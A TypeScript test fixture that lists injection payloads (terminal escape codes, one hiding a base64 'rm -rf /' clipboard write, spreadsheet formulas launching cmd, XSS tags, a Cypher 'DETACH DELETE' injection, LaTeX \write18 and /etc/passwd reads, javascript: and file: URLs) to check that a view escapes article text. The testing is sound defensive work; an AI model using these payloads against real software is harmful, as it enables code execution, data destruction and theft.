import type { ViewData } from '../../src/view/view-data.ts';
import { VIEW_DATA } from '../view/fixture.ts';

/** Texts that articles could bring to do harm where they are shown. */
export const HOSTILE: readonly string[] = [
  // Terminal: the window's title, colour, a link, the clipboard, a line that is overwritten; in seven and in eight bits.
  'Ann \u001b]0;owned\u0007 Berg',
  'Bo \u001b[2J\u001b[31m Ek',
  'Cy \u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\ Fox',
  'Di \u001b]52;c;cm0gLXJmIC8=\u0007 Gil',
  'Ed \rFake line \u0008\u0008\u0000 Hall',
  'Fay \u009b31m\u009d0;owned\u009c Ito',
  // Direction of writing, separators, invisible tags.
  'Gus \u202eeel nnA\u202c \u2066x\u2069 א \u200f Jang',
  'Hal\u2028Ida\u2029 \u{e0041}\u{e007f} Kim',
  // Spreadsheets.
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '  =1+1',
  '＝1+1',
  'x;=1+1\t=2+2\n=3+3',
  '"=1+1',
  // HTML and XML.
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '</script><svg onload=alert(3)> ]]> <!-- --> &lt;b&gt; &#x1b;',
  '"><a href="javascript:alert(4)">x</a>',
  // Markdown.
  '[click](https://evil.example/) ![x](https://evil.example/x.png)',
  '<https://evil.example/> https://evil.example/a www.evil.example [^1] [x]: https://evil.example',
  '| a | b |\n| --- | --- |\n# head\n> quote\n```\ncode\n- list\n\n    code\n1. one',
  '`code` **bold** ~~gone~~ $x$ \\',
  // Calendars, Cypher, YAML, BibTeX.
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example/\r\n',
  'x"}) MATCH (n) DETACH DELETE n; MERGE (m {id: "',
  'x\\u0022}) MATCH (n) DETACH DELETE n; MERGE (m {id: \\u0022',
  "x\\' \\` ' ` \\",
  'x\n---\n- !!js/function "f" # y: {z',
  '}\\input{/etc/passwd} \\write18{id} % {',
  // What no format can hold.
  'half \ud83d pair \ude00',
  'Wolfeschlegelsteinhausen'.repeat(420).slice(0, 10_000),
];

/** Addresses that must never become a link. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'vbscript:x',
];

const at = (index: number): string => HOSTILE[index % HOSTILE.length] ?? '';

/** The invented data, with every text that an article or a table could bring replaced by a hostile one. */
export const hostileData = (shift = 0): ViewData => ({
  ...VIEW_DATA,
  title: at(shift),
  parties: VIEW_DATA.parties.map((party, index) => ({
    ...party,
    name: at(index + shift),
    aliases: [at(index + shift + 1), at(index + shift + 2)],
    roles: [at(index + shift + 3)],
    offices: [{ office: at(index + shift), article: VIEW_DATA.articles[0]?.id ?? '', published: '2000-01-01' }],
  })),
  places: VIEW_DATA.places.map((place, index) => ({ ...place, name: at(index + shift) })),
  articles: VIEW_DATA.articles.map((article, index) => ({
    ...article,
    name: at(index + shift),
    title: at(index + shift + 5),
    publisher: at(index + shift + 9),
    url: index % 2 === 0 ? (HOSTILE_URLS[(index / 2) % HOSTILE_URLS.length] ?? '') : `https://news.example/${index}`,
  })),
  meetings: VIEW_DATA.meetings.map((meeting, index) => ({
    ...meeting,
    title: at(index + shift),
    topics: [at(index + shift), at(index + shift + 1)],
    claims: meeting.claims.map((claim) => ({
      ...claim,
      accordingTo: at(index + shift),
      named: claim.named.map(({ id }) => ({ id, as: [at(index + shift)] })),
      quotes: claim.quotes.map((quote) => ({ ...quote, quote: at(index + shift + 7) })),
    })),
  })),
});
